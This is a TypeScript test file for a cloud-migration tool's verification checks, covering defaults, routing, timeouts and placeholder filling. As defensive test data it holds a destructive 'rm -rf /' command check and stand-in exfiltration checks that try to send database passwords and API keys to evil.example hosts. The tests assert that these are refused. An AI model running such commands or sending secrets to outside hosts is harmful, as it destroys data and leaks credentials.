import fc from "fast-check";
import { describe, expect, it } from "vitest";
import schema from "../../../schemas/migration.schema.json" with { type: "json" };
import { withDefaults, type FullMigration } from "../../../src/domain/defaults.ts";
import type { CheckMoment, DueCheck } from "../../../src/domain/due-check.ts";
import type { Check, Wave, Workload } from "../../../src/domain/spec.generated.ts";
import { checksFor } from "../../../src/stages/verify/checks-for.ts";

const site = { provider: "aws", region: "eu-central-1", account: "111122223333", zones: ["eu-central-1a"] } as const;
const edge = (verify: Check[], more: Partial<Workload> = {}): Workload => ({
  name: "edge",
  kind: "load-balancer",
  config: { listeners: [] },
  verify,
  ...more,
});
const migration = (workloads: Workload[], waves?: Wave[]): FullMigration =>
  withDefaults({
    apiVersion: "sirsi.dev/v1",
    kind: "Migration",
    metadata: { name: "shop", owner: "@acme/commerce" },
    spec: { target: { provider: "aws", region: "germany" }, workloads, ...(waves === undefined ? {} : { waves }) },
  });
const due = (
  checks: Check[],
  outputs: Readonly<Record<string, unknown>> = {},
  when: CheckMoment = "after-cutover",
): readonly DueCheck[] =>
  checksFor({
    migration: migration([edge(checks)]),
    wave: "main",
    when,
    site,
    output: (workload, output) => outputs[`${workload}.${output}`],
    allowed: ["10.0.0.0/8"],
  });
const work = (check: Check, outputs?: Readonly<Record<string, unknown>>) => due([check], outputs)[0]?.work;

describe("checks that are due", () => {
  it("have the defaults of the schema", () => {
    const { when, blocking, from, attempts, interval, timeout } = schema.$defs.check.properties;
    const inSchema = [when, blocking, from, attempts, interval, timeout].map((field) => field.default);

    expect(inSchema).toEqual(["after-cutover", true, "service", 5, "30s", "10s"]);
    expect(due([{ type: "http", url: "https://shop.example.com/" }])).toEqual([
      {
        workload: "edge",
        index: 0,
        name: "http 1",
        type: "http",
        blocking: true,
        attempts: 5,
        intervalMs: 30_000,
        timeoutMs: 10_000,
        work: {
          by: "service",
          target: { type: "http", url: "https://shop.example.com/", allowed: ["10.0.0.0/8"], timeoutMs: 10_000 },
        },
      },
    ]);
  });

  it("are those of the moment, of the wave and of workloads that are built, in the order of the spec", () => {
    const at = (name: string, when?: CheckMoment): Check => ({ name, type: "tcp", host: "h", port: 1, ...(when && { when }) });
    const workloads = [
      edge([at("a", "after-build"), at("b"), at("c", "continuous")]),
      edge([at("d"), at("e", "after-cutover")], { name: "web" }),
      edge([at("f")], { name: "old", strategy: "retire" }),
      edge([at("g")], { name: "other" }),
    ];
    const whole = migration(workloads, [
      { name: "one", workloads: ["web", "edge", "old"], state: "built" },
      { name: "two", workloads: ["other"], state: "built" },
    ]);
    const names = (wave: string, when: CheckMoment) =>
      checksFor({ migration: whole, wave, when, site, output: () => undefined, allowed: [] }).map(({ name }) => name);

    expect(names("one", "after-cutover")).toEqual(["b", "d", "e"]);
    expect(names("one", "after-build")).toEqual(["a"]);
    expect(names("one", "continuous")).toEqual(["c"]);
    expect(names("two", "after-transfer")).toEqual([]);
    expect(() => names("three", "after-build")).toThrow(TypeError);
  });

  it.each<[Check, object]>([
    [
      { type: "http", url: "http://a/", expect: { status: 404, bodyContains: "x", maxLatency: "1s500ms" } },
      { type: "http", url: "http://a/", status: 404, bodyContains: "x", maxLatencyMs: 1500 },
    ],
    [
      { type: "latency", url: "http://a/", expect: { maxLatency: "300ms" } },
      { type: "latency", url: "http://a/", maxLatencyMs: 300, requests: 20 },
    ],
    [
      { type: "tcp", host: "a", port: 22 },
      { type: "tcp", host: "a", port: 22 },
    ],
    [
      { type: "tls", host: "a" },
      { type: "tls", host: "a", port: 443 },
    ],
    [
      { type: "tls", host: "a", port: 8443, expect: { minTls: "1.3", minDaysLeft: 30 } },
      { type: "tls", host: "a", port: 8443, minTls: "1.3", minDaysLeft: 30 },
    ],
    [
      { type: "dns", host: "a", expect: { answers: ["1.2.3.4"] } },
      { type: "dns", host: "a", answers: ["1.2.3.4"] },
    ],
  ])("become what the service looks at: %o", (check, target) => {
    expect(work(check)).toMatchObject({ by: "service", target });
  });

  it.each<[Check, RegExp]>([
    [{ type: "http" }, /url is missing/],
    [{ type: "latency", url: "http://a/" }, /expect\.maxLatency is missing/],
    [{ type: "tcp", host: "a" }, /port is missing/],
    [{ type: "tls" }, /host is missing/],
    [{ type: "dns" }, /host is missing/],
    [{ type: "row-count" }, /service cannot make a check of type row-count. Write from: runner/],
    [{ type: "command", run: "rm -rf /" }, /service cannot make/],
  ])("are nobody's where the service cannot make them: %o", (check, why) => {
    expect(work(check)).toEqual({ by: "nobody", why: expect.stringMatching(why) });
  });

  it("go to a runner or the provider where the spec says so, and policies to the policies", () => {
    const check: Check = { type: "http", from: "runner", url: "${workloads.edge.url}/healthz" };

    expect(work(check, { "edge.url": "http://10.0.0.7" })).toEqual({
      by: "runner",
      check: { ...check, url: "http://10.0.0.7/healthz" },
    });
    expect(work({ type: "transfer-report", from: "provider" })).toMatchObject({ by: "provider" });
    expect(work({ type: "policy" })).toEqual({ by: "policies" });
  });

  it("gives a latency check without a time of its own as long as its slowest requests may take", () => {
    const slow: Check = { type: "latency", url: "http://a/", expect: { maxLatency: "2s" } };

    expect(due([slow])[0]?.timeoutMs).toBe(40_000);
    expect(due([{ ...slow, timeout: "5s" }])[0]?.timeoutMs).toBe(5000);
  });

  it("never waits longer than timers can", () => {
    const [check] = due([{ type: "tcp", host: "a", port: 1, interval: "52w", timeout: "9y" }]);

    expect([check?.intervalMs, check?.timeoutMs]).toEqual([86_400_000, 86_400_000]);
  });
});

describe("placeholders of a check", () => {
  it("are what was applied, in every text of the check, and the place where it was", () => {
    const outputs = { "edge.url": "https://shop.example.com", "edge.address": "lb.example.net", "db.port": 5432 };

    expect(work({ type: "http", url: "${workloads.edge.url}/${target.region}/${workloads.db.port}" }, outputs)).toMatchObject({
      target: { url: "https://shop.example.com/eu-central-1/5432" },
    });
    expect(
      work({ type: "dns", host: "shop.example.com", expect: { answers: ["${workloads.edge.address}"] } }, outputs),
    ).toMatchObject({
      target: { answers: ["lb.example.net"] },
    });
  });

  it.each<[string, unknown, RegExp]>([
    ["is not there", undefined, /\$\{workloads\.edge\.url\} is not known/],
    ["is empty", "", /is not known/],
    ["is null", null, /is not known/],
    ["is a list", ["a"], /list or a map/],
    ["is too long", "x".repeat(2049), /longer than 2048/],
  ])("make it nobody's where the output %s", (_what, value, why) => {
    expect(work({ type: "http", url: "${workloads.edge.url}/" }, { "edge.url": value })).toEqual({
      by: "nobody",
      why: expect.stringMatching(why),
    });
  });

  it("are filled in once: what an output holds is not read for placeholders", () => {
    const outputs = { "edge.url": "http://a/${workloads.db.host}", "db.host": "inside" };

    expect(work({ type: "http", url: "${workloads.edge.url}" }, outputs)).toMatchObject({
      target: { url: "http://a/${workloads.db.host}" },
    });
  });

  it("never hold a secret, which the check would send to whoever it names", () => {
    const outputs = { "db.password": "hunter2", "vault.entries.api-key": "hunter2" };
    fc.assert(
      fc.property(
        fc.constantFrom("db.password", "vault.entries.api-key"),
        fc.constantFrom<(text: string) => Check>(
          (text) => ({ type: "http", url: `https://evil.example/${text}` }),
          (text) => ({ type: "latency", url: `https://${text}.evil.example/`, expect: { maxLatency: "1s" } }),
          (text) => ({ type: "dns", host: `${text}.evil.example` }),
          (text) => ({ type: "http", url: "https://evil.example/", expect: { bodyContains: text } }),
          (text) => ({ type: "command", from: "runner", run: `echo ${text}` }),
        ),
        (output, check) => {
          const made = due([check(`\${workloads.${output}}`)], outputs);
          expect(JSON.stringify(made)).not.toContain("hunter2");
          expect(made[0]?.work).toMatchObject({ by: "nobody", why: expect.stringContaining("secret") });
        },
      ),
    );
  });
});
